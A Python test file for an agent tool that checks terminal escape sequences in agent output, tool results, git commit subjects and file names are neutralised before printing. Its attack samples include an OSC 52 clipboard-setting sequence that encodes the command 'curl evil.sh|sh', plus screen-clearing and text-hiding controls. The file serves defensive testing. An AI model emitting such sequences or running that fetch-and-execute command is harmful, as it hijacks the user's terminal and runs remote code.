"""Agent-written text printed to the owner's terminal cannot drive the terminal."""

from __future__ import annotations

import io
import subprocess
from pathlib import Path

from conftest import agentd
from rich.console import Console

from agentd.llm.types import Message, ToolCall
from agentd.render import LiveRenderer
from agentd.termsafe import terminal_safe

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # sets the clipboard to `curl evil.sh|sh`
ATTACKS = [OSC52, "\x1b[2J", "\x1b]0;title\x1b\\", "\x9b31m", "\r", "\x08\x08", "\x7f"]


def test_control_characters_are_shown_not_sent() -> None:
    for attack in ATTACKS:
        out = terminal_safe(f"a{attack}b\tc\nd")
        assert not any(ch in out for ch in "\x1b\x07\x9b\r\x08\x7f"), out
        assert out.startswith("a") and out.endswith("b\tc\nd")
    assert terminal_safe("plain ünïcode ⏎ text") == "plain ünïcode ⏎ text"


def test_the_live_renderer_never_emits_an_escape_from_the_agent() -> None:
    buf = io.StringIO()
    r = LiveRenderer(Console(file=buf, force_terminal=True, color_system=None))
    r.text(f"hello {OSC52}")
    call = ToolCall("1", "bash", {"command": f"echo {OSC52}"})
    r.tool_call(call)
    r.tool_result(call, Message("tool", f"out {OSC52}"))
    r.finish()
    assert "\x1b" not in buf.getvalue() and "\x07" not in buf.getvalue()
    assert "\\x1b]52" in buf.getvalue()


def test_history_shows_a_planted_subject_and_file_name_safely(home: Path) -> None:
    name = "x\x1b]52;c;ZXZpbA==\x07.md"
    (home / name).write_text("hi")
    subprocess.run(["git", "-C", str(home), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(home), "-c", "user.name=t", "-c", "user.email=t@t",
                    "commit", "-qm", f"subject {OSC52}"], check=True)
    r = agentd("history", "--home", str(home))
    assert r.exit_code == 0 and "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert "subject" in r.stdout
